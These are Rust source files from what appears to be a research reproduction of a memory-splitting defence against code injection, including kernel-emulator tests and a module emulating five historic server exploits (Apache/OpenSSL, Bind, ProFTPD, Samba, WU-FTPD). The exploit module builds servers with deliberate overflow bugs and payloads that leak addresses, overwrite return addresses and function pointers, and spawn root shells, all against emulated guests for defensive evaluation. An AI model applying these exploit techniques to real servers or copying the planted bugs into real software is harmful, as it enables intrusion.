        .unwrap();
    let mut k = kernel();
    let (_, code) = run_to_exit(&mut k, &prog);
    assert_eq!(code, Some(2));
}

#[test]
fn unknown_syscall_returns_enosys() {
    let prog = ProgramBuilder::new("/bin/nosys")
        .code(
            "_start:
                mov eax, 9999
                int 0x80
                cmp eax, -38          ; ENOSYS
                jne bad
                mov ebx, 0
                call exit
            bad:
                mov ebx, 1
                call exit",
        )
        .build()
        .unwrap();
    let mut k = kernel();
    let (_, code) = run_to_exit(&mut k, &prog);
    assert_eq!(code, Some(0));
}

#[test]
fn getpid_and_time_are_sane() {
    let prog = ProgramBuilder::new("/bin/ids")
        .code(
            "_start:
                mov eax, SYS_GETPID
                int 0x80
                cmp eax, 1
                jne bad
                mov eax, SYS_TIME
                int 0x80
                mov esi, eax
                mov eax, SYS_TIME
                int 0x80
                cmp eax, esi          ; time is monotone
                jb bad
                mov ebx, 0
                call exit
            bad:
                mov ebx, 1
                call exit",
        )
        .build()
        .unwrap();
    let mut k = kernel();
    let (_, code) = run_to_exit(&mut k, &prog);
    assert_eq!(code, Some(0));
}

#[test]
fn stack_guard_faults_on_runaway_recursion() {
    // Blowing past the stack VMA must be a clean SIGSEGV, not silent
    // corruption.
    let prog = ProgramBuilder::new("/bin/recurse")
        .code(
            "_start:
                call _start",
        )
        .build()
        .unwrap();
    let mut k = kernel();
    let pid = k.spawn(&prog.image).unwrap();
    k.run(400_000_000);
    assert_eq!(k.sys.proc(pid).exit_code, Some(128 + 11));
}

#[test]
fn halt_in_user_mode_is_fatal() {
    let prog = ProgramBuilder::new("/bin/hlt")
        .code("_start: hlt")
        .build()
        .unwrap();
    let mut k = kernel();
    let pid = k.spawn(&prog.image).unwrap();
    k.run(10_000_000);
    assert_eq!(k.sys.proc(pid).exit_code, Some(128 + 11));
}

#[test]
fn divide_error_raises_sigfpe() {
    let prog = ProgramBuilder::new("/bin/div0")
        .code(
            "_start:
                xor ebx, ebx
                mov eax, 1
                xor edx, edx
                div ebx",
        )
        .build()
        .unwrap();
    let mut k = kernel();
    let pid = k.spawn(&prog.image).unwrap();
    k.run(10_000_000);
    assert_eq!(k.sys.proc(pid).exit_code, Some(128 + 8));
}

#[test]
fn softtlb_machine_runs_the_same_guests() {
    // The §4.7 machine flavour is a drop-in substrate: an ordinary
    // program behaves identically (modulo cycle counts).
    let prog = ProgramBuilder::new("/bin/hello")
        .code(
            "_start:
                mov esi, msg
                call print
                mov ebx, 0
                call exit",
        )
        .data("msg: .asciz \"soft tlb\"")
        .build()
        .unwrap();
    let mut k = Kernel::new(
        MachineConfig {
            software_tlb: true,
            ..MachineConfig::default()
        },
        KernelConfig::default(),
        Box::new(NullEngine),
    );
    let (pid, code) = {
        let pid = k.spawn(&prog.image).unwrap();
        assert_eq!(k.run(100_000_000), RunExit::AllExited);
        (pid, k.sys.proc(pid).exit_code)
    };
    assert_eq!(code, Some(0));
    assert_eq!(k.sys.proc(pid).output_string(), "soft tlb");
    assert_eq!(
        k.sys.machine.stats.walks, 0,
        "no hardware walks in soft mode"
    );
    assert!(k.sys.stats.soft_tlb_fills > 0);
}

#[test]
fn fatal_signal_reaps_a_blocked_reader() {
    // A child blocks reading an empty pipe; the parent SIGKILLs it. The
    // wake-up path must deliver the fatal signal instead of restarting
    // the read forever.
    let prog = ProgramBuilder::new("/bin/blocked")
        .code(
            "_start:
                mov eax, SYS_PIPE
                mov ebx, fds
                int 0x80
                mov eax, SYS_FORK
                int 0x80
                cmp eax, 0
                je child
                mov [kid], eax
                ; give the child time to block
                mov eax, SYS_YIELD
                int 0x80
                mov eax, SYS_YIELD
                int 0x80
                mov eax, SYS_KILL
                mov ebx, [kid]
                mov ecx, 9
                int 0x80
                mov eax, SYS_WAITPID
                mov ebx, -1
                mov ecx, status
                int 0x80
                mov eax, [status]
                cmp eax, 137
                jne bad
                mov ebx, 0
                call exit
            child:
                mov eax, SYS_READ
                mov ebx, [fds]
                mov ecx, buf
                mov edx, 4
                int 0x80
                ; unreachable: the parent holds the only other write end
                mov ebx, 5
                call exit
            bad:
                mov ebx, 1
                call exit",
        )
        .data(
            "fds: .space 8
             kid: .word 0
             status: .word 0
             buf: .space 4",
        )
        .build()
        .unwrap();
    let mut k = kernel();
    let (_, code) = run_to_exit(&mut k, &prog);
    assert_eq!(code, Some(0));
}
