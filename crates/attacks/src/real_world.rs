//! Five real-world exploit scenario emulations (paper §6.1.2, Table 2).
//!
//! Each scenario reproduces the *vulnerability class, address-discovery
//! method and payload staging* of one of the paper's five attacks against
//! RedHat 7.2-era servers:
//!
//! | scenario | paper target | class |
//! |---|---|---|
//! | [`Scenario::ApacheSsl`] | Apache 1.3.20 + OpenSSL 0.9.6d (`openssl-too-open`) | heap overflow + info leak → heap function pointer |
//! | [`Scenario::BindTsig`] | Bind 8.2.2_P5 (lsd-pl.net TSIG) | stack overflow + info leak → return address |
//! | [`Scenario::ProftpdAscii`] | ProFTPD 1.2.7 (`proftpd-not-pro-enough`) | ASCII-translation heap overflow → heap function pointer |
//! | [`Scenario::SambaTrans2`] | Samba 2.2.1a (`call_trans2open`, eSDee) | stack overflow brute-forced under stack ASLR, fork-per-connection |
//! | [`Scenario::WuFtpdGlob`] | WU-FTPD 2.6.1 (7350wurm) | free()/unlink-style corruption → arbitrary write → two-stage shellcode |
//!
//! The servers are real guest programs listening on the loopback network;
//! the exploits run from the host harness the way the original exploits ran
//! from an attacker machine.

use crate::harness::{
    classify_shell, drive_shell, ext_recv_wait, ext_send, external_connect_patiently,
    kernel_with_on, AttackOutcome, Protection,
};
use crate::shellcode;
use sm_kernel::kernel::{Kernel, KernelConfig};
use sm_kernel::process::Pid;
use sm_kernel::userlib::{BuiltProgram, ProgramBuilder};
use sm_machine::TlbPreset;

/// The five emulated attacks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Scenario {
    /// Apache 1.3.20 + OpenSSL 0.9.6d-style heap overflow with info leak.
    ApacheSsl,
    /// Bind 8.2.2_P5-style stack overflow with info leak.
    BindTsig,
    /// ProFTPD 1.2.7-style ASCII-mode translation overflow.
    ProftpdAscii,
    /// Samba 2.2.1a-style brute-forced stack overflow (fork-per-connection,
    /// stack ASLR on).
    SambaTrans2,
    /// WU-FTPD 2.6.1-style free()-based corruption with two-stage payload.
    WuFtpdGlob,
}

impl Scenario {
    /// All scenarios, Table 2 order.
    pub const ALL: [Scenario; 5] = [
        Scenario::ApacheSsl,
        Scenario::BindTsig,
        Scenario::ProftpdAscii,
        Scenario::SambaTrans2,
        Scenario::WuFtpdGlob,
    ];

    /// The software the paper attacked.
    pub fn paper_target(&self) -> &'static str {
        match self {
            Scenario::ApacheSsl => "Apache 1.3.20 w/ OpenSSL 0.9.6d",
            Scenario::BindTsig => "Bind 8.2.2_P5",
            Scenario::ProftpdAscii => "ProFTPD 1.2.7",
            Scenario::SambaTrans2 => "Samba 2.2.1a",
            Scenario::WuFtpdGlob => "WU-FTPD 2.6.1",
        }
    }

    /// Short label.
    pub fn name(&self) -> &'static str {
        match self {
            Scenario::ApacheSsl => "apache-ssl",
            Scenario::BindTsig => "bind-tsig",
            Scenario::ProftpdAscii => "proftpd-ascii",
            Scenario::SambaTrans2 => "samba-trans2",
            Scenario::WuFtpdGlob => "wuftpd-glob",
        }
    }

    /// Port the emulated server listens on.
    pub fn port(&self) -> u16 {
        match self {
            Scenario::ApacheSsl => 443,
            Scenario::BindTsig => 53,
            Scenario::ProftpdAscii => 21,
            Scenario::SambaTrans2 => 445,
            Scenario::WuFtpdGlob => 2121,
        }
    }
}

/// Result of running one scenario under one protection configuration.
#[derive(Debug, Clone)]
pub struct ScenarioReport {
    /// Which attack.
    pub scenario: Scenario,
    /// Classified outcome.
    pub outcome: AttackOutcome,
    /// Number of detections logged by the protection.
    pub detections: usize,
    /// Exploit connection attempts (interesting for the brute-forced
    /// Samba attack).
    pub attempts: u32,
    /// If a shell was obtained, the attacker's interactive transcript
    /// (`id`, `whoami`), demonstrating the paper's Fig. 5b/5d sessions.
    pub transcript: Option<String>,
}

/// Run one scenario under a protection configuration.
pub fn run_scenario(scenario: Scenario, protection: &Protection) -> ScenarioReport {
    run_scenario_on(scenario, protection, TlbPreset::default())
}

/// [`run_scenario`] on an explicit TLB geometry. Verdicts must not depend
/// on TLB shape: the split check fires on the miss path regardless of why
/// the entry was absent.
pub fn run_scenario_on(
    scenario: Scenario,
    protection: &Protection,
    tlb: TlbPreset,
) -> ScenarioReport {
    match scenario {
        Scenario::ApacheSsl => run_apache(protection, tlb),
        Scenario::BindTsig => run_bind(protection, tlb),
        Scenario::ProftpdAscii => run_proftpd(protection, tlb),
        Scenario::SambaTrans2 => run_samba(protection, tlb),
        Scenario::WuFtpdGlob => run_wuftpd(protection, tlb),
    }
}

// ---------------------------------------------------------------------------
// shared plumbing

const BUDGET: u64 = 4_000_000;

fn spawn_server(
    protection: &Protection,
    tlb: TlbPreset,
    prog: &BuiltProgram,
    aslr: bool,
) -> (Kernel, Pid) {
    spawn_server_traced(protection, tlb, prog, aslr, 0)
}

fn spawn_server_traced(
    protection: &Protection,
    tlb: TlbPreset,
    prog: &BuiltProgram,
    aslr: bool,
    trace: u32,
) -> (Kernel, Pid) {
    let mut k = kernel_with_on(
        protection,
        tlb,
        KernelConfig {
            aslr_stack: aslr,
            trace,
            ..KernelConfig::default()
        },
    );
    let pid = k.spawn(&prog.image).expect("server spawns");
    (k, pid)
}

/// Parse the first decimal number after `prefix` in a banner.
fn parse_leak(banner: &str, nth: usize) -> Option<u32> {
    let nums: Vec<u32> = banner
        .split(|c: char| !c.is_ascii_digit())
        .filter(|s| !s.is_empty())
        .filter_map(|s| s.parse().ok())
        .collect();
    nums.get(nth).copied()
}

fn finish(
    scenario: Scenario,
    mut k: Kernel,
    conn: Option<&crate::harness::ExternalConn>,
    attempts: u32,
) -> ScenarioReport {
    k.run(BUDGET);
    let outcome = classify_shell(&k);
    let transcript = if outcome == AttackOutcome::ShellSpawned {
        conn.map(|c| drive_shell(&mut k, c, &["id", "whoami"]))
    } else {
        None
    };
    ScenarioReport {
        scenario,
        outcome,
        detections: crate::harness::detections(&k),
        attempts,
        transcript,
    }
}

// ---------------------------------------------------------------------------
// 1. Apache + OpenSSL: heap overflow, info leak, heap function pointer

/// Build the apache-ssl victim server.
pub fn apache_server() -> BuiltProgram {
    ProgramBuilder::new("/bin/apache-ssl")
        .code(
            "_start:
                mov eax, SYS_LISTEN
                mov ebx, 443
                int 0x80
                mov eax, SYS_ACCEPT
                mov ebx, 443
                int 0x80
                mov [sockfd], eax
                ; session objects: client-master-key buffer, then the
                ; session handler object right after it on the heap
                mov eax, 96
                call malloc
                mov [keybuf], eax
                mov eax, 16
                call malloc
                mov [hobj], eax
                mov eax, [hobj]
                mov dword [eax], session_ok
                ; SSL handshake info leak (openssl-too-open uses one to
                ; find its shellcode address)
                mov ebx, [sockfd]
                mov esi, banner
                call fdputs
                mov ebx, [sockfd]
                mov eax, [keybuf]
                call fdput_num
                mov ebx, [sockfd]
                mov esi, nl
                call fdputs
                ; read the CLIENT-MASTER-KEY length, then the key itself.
                ; THE BUG: the length is attacker-controlled and unchecked.
                mov ebx, [sockfd]
                mov edi, linebuf
                mov edx, 16
                call read_line
                mov esi, linebuf
                call atoi
                mov edx, eax
                mov eax, SYS_READ
                mov ebx, [sockfd]
                mov ecx, [keybuf]
                int 0x80
                ; dispatch the session handler
                mov eax, [hobj]
                call [eax]
                mov ebx, 0
                call exit
            session_ok:
                ret",
        )
        .data(
            "sockfd: .word 0
             keybuf: .word 0
             hobj: .word 0
             linebuf: .space 32
             banner: .asciz \"SSL-SERVER keyaddr \"
             nl: .asciz \"\\n\"",
        )
        .build()
        .expect("apache server assembles")
}

fn run_apache(protection: &Protection, tlb: TlbPreset) -> ScenarioReport {
    let prog = apache_server();
    let (mut k, _pid) = spawn_server(protection, tlb, &prog, false);
    let conn = external_connect_patiently(&mut k, 443, BUDGET).expect("server listening");
    let banner = String::from_utf8_lossy(&ext_recv_wait(&mut k, &conn, BUDGET)).into_owned();
    let keybuf = parse_leak(&banner, 0).expect("leak in banner");
    // Overflow: shellcode, padding to the heap-adjacent handler object,
    // then the leaked buffer address over its function pointer.
    let mut payload = shellcode::shell_on_fd(3);
    payload.resize(96, 0x90);
    payload.extend_from_slice(&keybuf.to_le_bytes());
    ext_send(&mut k, &conn, format!("{}\n", payload.len()).as_bytes());
    k.run(BUDGET);
    ext_send(&mut k, &conn, &payload);
    finish(Scenario::ApacheSsl, k, Some(&conn), 1)
}

// ---------------------------------------------------------------------------
// 2. Bind TSIG: stack overflow with info leak

/// Build the bind-tsig victim server.
pub fn bind_server() -> BuiltProgram {
    ProgramBuilder::new("/bin/bind-tsig")
        .code(
            "_start:
                mov eax, SYS_LISTEN
                mov ebx, 53
                int 0x80
                mov eax, SYS_ACCEPT
                mov ebx, 53
                int 0x80
                mov [sockfd], eax
                call handle_query
                mov ebx, 0
                call exit
            handle_query:
                push ebp
                mov ebp, esp
                sub esp, 128
                ; the lsd-pl.net exploit 'makes use of an information leak
                ; bug to determine the shellcode jump address'
                mov ebx, [sockfd]
                mov esi, banner
                call fdputs
                mov ebx, [sockfd]
                lea eax, [ebp-128]
                call fdput_num
                mov ebx, [sockfd]
                mov esi, nl
                call fdputs
                ; read TSIG record: length line then bytes into the stack
                ; buffer. THE BUG: length unchecked.
                mov ebx, [sockfd]
                mov edi, linebuf
                mov edx, 16
                call read_line
                mov esi, linebuf
                call atoi
                mov edx, eax
                mov eax, SYS_READ
                mov ebx, [sockfd]
                lea ecx, [ebp-128]
                int 0x80
                leave
                ret",
        )
        .data(
            "sockfd: .word 0
             linebuf: .space 32
             banner: .asciz \"BIND qbuf \"
             nl: .asciz \"\\n\"",
        )
        .build()
        .expect("bind server assembles")
}

fn run_bind(protection: &Protection, tlb: TlbPreset) -> ScenarioReport {
    let prog = bind_server();
    let (mut k, _pid) = spawn_server(protection, tlb, &prog, false);
    let conn = external_connect_patiently(&mut k, 53, BUDGET).expect("server listening");
    let banner = String::from_utf8_lossy(&ext_recv_wait(&mut k, &conn, BUDGET)).into_owned();
    let bufaddr = parse_leak(&banner, 0).expect("leak in banner");
    // 128 bytes of shellcode+sled, 4 bytes saved-ebp junk, return address
    // pointing back into the buffer.
    let mut payload = shellcode::shell_on_fd(3);
    payload.resize(128, 0x90);
    payload.extend_from_slice(&0x41414141u32.to_le_bytes());
    payload.extend_from_slice(&bufaddr.to_le_bytes());
    ext_send(&mut k, &conn, format!("{}\n", payload.len()).as_bytes());
    k.run(BUDGET);
    ext_send(&mut k, &conn, &payload);
    finish(Scenario::BindTsig, k, Some(&conn), 1)
}

// ---------------------------------------------------------------------------
// 3. ProFTPD: ASCII-mode translation overflow on the heap

/// Build the proftpd victim server.
pub fn proftpd_server() -> BuiltProgram {
    ProgramBuilder::new("/bin/proftpd")
        .code(
            "_start:
                mov eax, SYS_LISTEN
                mov ebx, 21
                int 0x80
                mov eax, SYS_ACCEPT
                mov ebx, 21
                int 0x80
                mov [sockfd], eax
                mov eax, 512
                call malloc
                mov [upbuf], eax
                mov eax, 128
                call malloc
                mov [xlbuf], eax
                mov eax, 16
                call malloc
                mov [cb], eax
                mov eax, [cb]
                mov dword [eax], xfer_done
                mov ebx, [sockfd]
                mov esi, banner
                call fdputs
                mov ebx, [sockfd]
                mov eax, [xlbuf]
                call fdput_num
                mov ebx, [sockfd]
                mov esi, nl
                call fdputs
            cmdloop:
                mov ebx, [sockfd]
                mov edi, linebuf
                mov edx, 32
                call read_line
                mov esi, linebuf
                mov edi, cmd_stor
                call strcmp
                cmp eax, 0
                je do_stor
                mov esi, linebuf
                mov edi, cmd_retr
                call strcmp
                cmp eax, 0
                je do_retr
                mov esi, linebuf
                mov edi, cmd_quit
                call strcmp
                cmp eax, 0
                je do_quit
                jmp cmdloop
            do_stor:
                mov ebx, [sockfd]
                mov edi, linebuf
                mov edx, 16
                call read_line
                mov esi, linebuf
                call atoi
                mov [uplen], eax
                mov edx, eax
                mov eax, SYS_READ
                mov ebx, [sockfd]
                mov ecx, [upbuf]
                int 0x80
                jmp cmdloop
            do_retr:
                ; ASCII-mode translation: LF -> CR LF, copied into the
                ; 128-byte translate buffer. THE BUG: output length (input
                ; plus expansions) is never checked against the buffer.
                mov esi, [upbuf]
                mov edi, [xlbuf]
                mov ecx, [uplen]
            retr_loop:
                cmp ecx, 0
                je retr_done
                movzx eax, byte [esi]
                cmp eax, 10
                jne retr_plain
                mov byte [edi], 13
                inc edi
            retr_plain:
                mov [edi], al
                inc esi
                inc edi
                dec ecx
                jmp retr_loop
            retr_done:
                mov eax, [cb]
                call [eax]
                jmp cmdloop
            do_quit:
                mov ebx, 0
                call exit
            xfer_done:
                ret",
        )
        .data(
            "sockfd: .word 0
             upbuf: .word 0
             xlbuf: .word 0
             cb: .word 0
             uplen: .word 0
             linebuf: .space 32
             banner: .asciz \"220 ProFTPD xl \"
             nl: .asciz \"\\n\"
             cmd_stor: .asciz \"STOR\"
             cmd_retr: .asciz \"RETR\"
             cmd_quit: .asciz \"QUIT\"",
        )
        .build()
        .expect("proftpd server assembles")
}

fn run_proftpd(protection: &Protection, tlb: TlbPreset) -> ScenarioReport {
    let prog = proftpd_server();
    let (mut k, _pid) = spawn_server(protection, tlb, &prog, false);
    let conn = external_connect_patiently(&mut k, 21, BUDGET).expect("server listening");
    let banner = String::from_utf8_lossy(&ext_recv_wait(&mut k, &conn, BUDGET)).into_owned();
    let xlbuf = parse_leak(&banner, 1).expect("leak in banner"); // 0 is "220"
                                                                 // Upload: shellcode + padding to the translate-buffer size + the
                                                                 // callback overwrite (no LF bytes, so translation is the identity and
                                                                 // the 132-byte output overflows the 128-byte buffer by exactly the
                                                                 // pointer).
    let mut upload = shellcode::shell_on_fd(3);
    upload.resize(128, 0x90);
    upload.extend_from_slice(&xlbuf.to_le_bytes());
    assert!(
        !upload.contains(&0x0a),
        "payload must avoid LF so ASCII translation leaves offsets intact"
    );
    ext_send(&mut k, &conn, b"STOR\n");
    k.run(BUDGET);
    ext_send(&mut k, &conn, format!("{}\n", upload.len()).as_bytes());
    k.run(BUDGET);
    ext_send(&mut k, &conn, &upload);
    k.run(BUDGET);
    ext_send(&mut k, &conn, b"RETR\n");
    finish(Scenario::ProftpdAscii, k, Some(&conn), 1)
}

// ---------------------------------------------------------------------------
// 4. Samba trans2open: brute-forced stack overflow under ASLR

/// Build the samba victim server (forks a child per connection, so failed
/// guesses only kill children — like the real daemon).
pub fn samba_server() -> BuiltProgram {
    ProgramBuilder::new("/bin/samba")
        .code(
            "_start:
                mov eax, SYS_LISTEN
                mov ebx, 445
                int 0x80
            accept_loop:
                mov eax, SYS_ACCEPT
                mov ebx, 445
                int 0x80
                mov [connfd], eax
                mov eax, SYS_FORK
                int 0x80
                cmp eax, 0
                je child
                mov eax, SYS_CLOSE
                mov ebx, [connfd]
                int 0x80
                jmp accept_loop
            child:
                call handle_smb
                mov ebx, 0
                call exit
            handle_smb:
                push ebp
                mov ebp, esp
                sub esp, 192
                ; call_trans2open: length then data into a stack buffer.
                ; THE BUG: unchecked length.
                mov ebx, [connfd]
                mov edi, linebuf
                mov edx, 16
                call read_line
                mov esi, linebuf
                call atoi
                mov edx, eax
                mov eax, SYS_READ
                mov ebx, [connfd]
                lea ecx, [ebp-192]
                int 0x80
                leave
                ret",
        )
        .data(
            "connfd: .word 0
             linebuf: .space 32",
        )
        .build()
        .expect("samba server assembles")
}

fn run_samba(protection: &Protection, tlb: TlbPreset) -> ScenarioReport {
    let prog = samba_server();
    // Stack ASLR on: this is the 2.6-kernel randomisation the eSDee
    // exploit brute-forces (paper §6.1.2).
    let (mut k, pid) = spawn_server(protection, tlb, &prog, true);
    k.run(BUDGET);
    // "The exploit was helped by providing a better first guess using
    // insider information about the stack location" — we read the
    // process's stack top the way the paper's authors read theirs from a
    // similar vulnerable system.
    let first_guess = k.sys.proc(pid).aspace.stack_high - 200;
    let mut attempts = 0u32;
    let sc = shellcode::shell_on_fd(3);
    let sled = 192 - sc.len(); // sled + shellcode exactly fill the buffer
    let mut guess = first_guess;
    let floor = first_guess.saturating_sub(2048);
    while guess > floor {
        attempts += 1;
        let Some(conn) = external_connect_patiently(&mut k, 445, BUDGET) else {
            break;
        };
        // Sled + shellcode + padding + saved-ebp + ret = guess.
        let mut payload = shellcode::nop_sled(sled);
        payload.extend_from_slice(&sc);
        debug_assert_eq!(payload.len(), 192);
        payload.extend_from_slice(&0x41414141u32.to_le_bytes());
        payload.extend_from_slice(&guess.to_le_bytes());
        ext_send(&mut k, &conn, format!("{}\n", payload.len()).as_bytes());
        k.run(BUDGET);
        ext_send(&mut k, &conn, &payload);
        k.run(BUDGET);
        if k.sys.events.execed(crate::shell::SHELL_PATH) {
            return finish(Scenario::SambaTrans2, k, Some(&conn), attempts);
        }
        // Under a protecting engine every guess is foiled; stop once the
        // engine has demonstrably intervened a few times.
        if crate::harness::detections(&k) >= 3 {
            break;
        }
        guess -= sled as u32 / 2;
    }
    finish(Scenario::SambaTrans2, k, None, attempts)
}

// ---------------------------------------------------------------------------
// 5. WU-FTPD: free()/unlink corruption, two-stage payload

/// Build the wu-ftpd victim server.
pub fn wuftpd_server() -> BuiltProgram {
    ProgramBuilder::new("/bin/wu-ftpd")
        .code(
            "_start:
                mov eax, SYS_LISTEN
                mov ebx, 2121
                int 0x80
                mov eax, SYS_ACCEPT
                mov ebx, 2121
                int 0x80
                mov [sockfd], eax
                call session
                mov ebx, 0
                call exit
            session:
                push ebp
                mov ebp, esp
                sub esp, 16
                ; glob buffer, then the glob list node right after it
                mov eax, 96
                call malloc
                mov [gbuf], eax
                mov eax, 16
                call malloc
                mov [gnode], eax
                mov eax, [gnode]
                mov dword [eax], dummy_node
                mov dword [eax+4], dummy_node
                mov ebx, [sockfd]
                mov esi, banner
                call fdputs
                mov ebx, [sockfd]
                mov eax, [gbuf]
                call fdput_num
                mov ebx, [sockfd]
                mov esi, sp
                call fdputs
                mov ebx, [sockfd]
                lea eax, [ebp+4]
                call fdput_num
                mov ebx, [sockfd]
                mov esi, nl
                call fdputs
                ; read the glob pattern: length line + bytes into gbuf.
                ; THE BUG: the copy runs past the buffer into the node.
                mov ebx, [sockfd]
                mov edi, linebuf
                mov edx, 16
                call read_line
                mov esi, linebuf
                call atoi
                mov edx, eax
                mov eax, SYS_READ
                mov ebx, [sockfd]
                mov ecx, [gbuf]
                int 0x80
                ; free the (attacker-corrupted) glob node: the unlink write
                ; FD->bk = BK is the attacker's arbitrary 4-byte write
                mov eax, [gnode]
                mov ecx, [eax]
                mov edx, [eax+4]
                mov [ecx+4], edx
                leave
                ret",
        )
        .data(
            "sockfd: .word 0
             gbuf: .word 0
             gnode: .word 0
             linebuf: .space 32
             dummy_node: .space 16
             banner: .asciz \"220 wu-ftpd glob \"
             sp: .asciz \" \"
             nl: .asciz \"\\n\"",
        )
        .build()
        .expect("wuftpd server assembles")
}

fn run_wuftpd(protection: &Protection, tlb: TlbPreset) -> ScenarioReport {
    run_wuftpd_with_on(protection, tlb).0
}

/// Like [`run_scenario`] for WU-FTPD, but also returns the kernel and the
/// attacker connection so demos (Fig. 5) can keep interacting.
pub fn run_wuftpd_with(
    protection: &Protection,
) -> (ScenarioReport, Kernel, Option<crate::harness::ExternalConn>) {
    run_wuftpd_with_on(protection, TlbPreset::default())
}

/// [`run_wuftpd_with`] on an explicit TLB geometry.
pub fn run_wuftpd_with_on(
    protection: &Protection,
    tlb: TlbPreset,
) -> (ScenarioReport, Kernel, Option<crate::harness::ExternalConn>) {
    run_wuftpd_traced_on(protection, tlb, 0)
}

/// [`run_wuftpd_with_on`] with the trace subsystem armed (`trace` is a
/// [`sm_machine::trace::mask`] bitmask): the returned kernel's ring holds
/// the exploit's cycle-stamped event stream, which the Fig. 5 response-mode
/// demo renders with `--trace`.
pub fn run_wuftpd_traced_on(
    protection: &Protection,
    tlb: TlbPreset,
    trace: u32,
) -> (ScenarioReport, Kernel, Option<crate::harness::ExternalConn>) {
    let prog = wuftpd_server();
    let (mut k, _pid) = spawn_server_traced(protection, tlb, &prog, false, trace);
    let conn = external_connect_patiently(&mut k, 2121, BUDGET).expect("server listening");
    let banner = String::from_utf8_lossy(&ext_recv_wait(&mut k, &conn, BUDGET)).into_owned();
    let gbuf = parse_leak(&banner, 1).expect("gbuf leak");
    let retslot = parse_leak(&banner, 2).expect("retslot leak");
    // Stage one in the glob buffer, then the corrupted node: FD = retslot-4
    // and BK = gbuf, so the unlink write puts the buffer address into the
    // saved return address.
    // A small NOP sled ahead of stage one, as 7350wurm's payload had — the
    // forensic dump (paper Fig. 5c) then leads with recognisable 0x90s.
    let mut payload = shellcode::nop_sled(16);
    payload.extend_from_slice(&shellcode::two_stage_stage1(3));
    payload.resize(96, 0x90);
    payload.extend_from_slice(&(retslot - 4).to_le_bytes()); // node fd
    payload.extend_from_slice(&gbuf.to_le_bytes()); // node bk
    ext_send(&mut k, &conn, format!("{}\n", payload.len()).as_bytes());
    k.run(BUDGET);
    ext_send(&mut k, &conn, &payload);
    k.run(BUDGET);
    // Stage one (if it ran) signals us and waits for stage two.
    let sig = ext_recv_wait(&mut k, &conn, BUDGET);
    let mut attempts = 1;
    if sig.as_slice() == shellcode::STAGE1_MARKER {
        ext_send(&mut k, &conn, &shellcode::shell_on_fd(3));
        attempts = 2;
    }
    let report = {
        k.run(BUDGET);
        let outcome = classify_shell(&k);
        let transcript = if outcome == AttackOutcome::ShellSpawned {
            Some(drive_shell(&mut k, &conn, &["id", "whoami"]))
        } else {
            None
        };
        ScenarioReport {
            scenario: Scenario::WuFtpdGlob,
            outcome,
            detections: crate::harness::detections(&k),
            attempts,
            transcript,
        }
    };
    (report, k, Some(conn))
}

#[cfg(test)]
mod tests {
    use super::*;
    use sm_kernel::events::ResponseMode;

    #[test]
    fn all_five_succeed_unprotected() {
        for s in Scenario::ALL {
            let r = run_scenario(s, &Protection::Unprotected);
            assert_eq!(
                r.outcome,
                AttackOutcome::ShellSpawned,
                "{} did not get a shell: {r:?}",
                s.name()
            );
            let t = r.transcript.expect("interactive shell transcript");
            assert!(t.contains("uid=0(root)"), "{}: {t}", s.name());
        }
    }

    #[test]
    fn all_five_foiled_by_split_memory() {
        for s in Scenario::ALL {
            let r = run_scenario(s, &Protection::SplitMem(ResponseMode::Break));
            assert!(
                !r.outcome.succeeded(),
                "{} succeeded under split memory",
                s.name()
            );
            assert!(r.detections > 0, "{}: no detection logged", s.name());
        }
    }

    #[test]
    fn observe_mode_lets_wuftpd_proceed_with_log() {
        // Paper Fig. 5b: under observe mode the exploit gets its root
        // shell, but the kernel logged the injection first.
        let r = run_scenario(
            Scenario::WuFtpdGlob,
            &Protection::SplitMem(ResponseMode::Observe),
        );
        assert_eq!(r.outcome, AttackOutcome::ShellSpawned, "{r:?}");
        assert!(r.detections > 0);
        assert!(r.transcript.unwrap().contains("uid=0(root)"));
    }
}
