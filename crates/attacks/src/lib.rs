//! Code-injection attack corpus for the split-memory reproduction:
//! shellcode payloads, the Wilander-style benchmark matrix (Table 1), five
//! real-world exploit scenario emulations (Table 2), and the attack
//! harness that plays the external attacker.

pub mod code_reuse;
pub mod harness;
pub mod real_world;
pub mod shell;
pub mod shellcode;
pub mod wilander;

pub use harness::{AttackOutcome, Protection};
