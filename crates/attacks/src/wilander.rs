//! Wilander & Kamkar-style buffer-overflow benchmark (paper §6.1.1,
//! Table 1).
//!
//! The original benchmark attacks a set of control-flow targets from
//! overflowed buffers; the paper modified it "to allow having the code
//! injected on the data, bss, heap, and stack portions of the program's
//! address space". This module regenerates that matrix: six hijack
//! techniques × four injection segments, with four combinations marked
//! N/A — matching the paper's "four of the test cases did not successfully
//! execute an attack on our unprotected system".
//!
//! Every case is a real guest program: the payload arrives through *data
//! writes* (`memcpy` of attacker bytes into the injection buffer), the
//! hijack overwrites the technique's target with the (leak-known) buffer
//! address, and the trigger transfers control. The payload is an
//! `exit(42)` marker, so "attack succeeded" is an exit status of 42.

use crate::harness::{classify_marker, kernel_with_on, AttackOutcome, Protection};
use crate::shellcode::{self, as_byte_directive};
use sm_kernel::kernel::KernelConfig;
use sm_kernel::userlib::{BuiltProgram, ProgramBuilder};

/// Exit status that proves the injected payload executed.
pub const MARKER: u8 = 42;

/// Control-flow hijack technique (the benchmark's attack targets).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Technique {
    /// Overwrite a function's return address.
    ReturnAddress,
    /// Overwrite the saved frame pointer (frame-pointer pivot).
    OldBasePointer,
    /// Overwrite a function pointer variable adjacent to the buffer.
    FuncPtrVariable,
    /// Overwrite a function pointer passed as a parameter.
    FuncPtrParameter,
    /// Corrupt a `jmp_buf` variable adjacent to the buffer.
    LongjmpVariable,
    /// Corrupt a `jmp_buf` held in a stack frame.
    LongjmpParameter,
}

impl Technique {
    /// All techniques, table order.
    pub const ALL: [Technique; 6] = [
        Technique::ReturnAddress,
        Technique::OldBasePointer,
        Technique::FuncPtrVariable,
        Technique::FuncPtrParameter,
        Technique::LongjmpVariable,
        Technique::LongjmpParameter,
    ];

    /// Table label.
    pub fn name(&self) -> &'static str {
        match self {
            Technique::ReturnAddress => "return address",
            Technique::OldBasePointer => "old base pointer",
            Technique::FuncPtrVariable => "function pointer (variable)",
            Technique::FuncPtrParameter => "function pointer (parameter)",
            Technique::LongjmpVariable => "longjmp buffer (variable)",
            Technique::LongjmpParameter => "longjmp buffer (parameter)",
        }
    }
}

/// Segment the attack code is injected onto (Table 1 columns).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum InjectLocation {
    /// The main stack.
    Stack,
    /// `malloc`ed heap memory.
    Heap,
    /// Uninitialised data (`.space`).
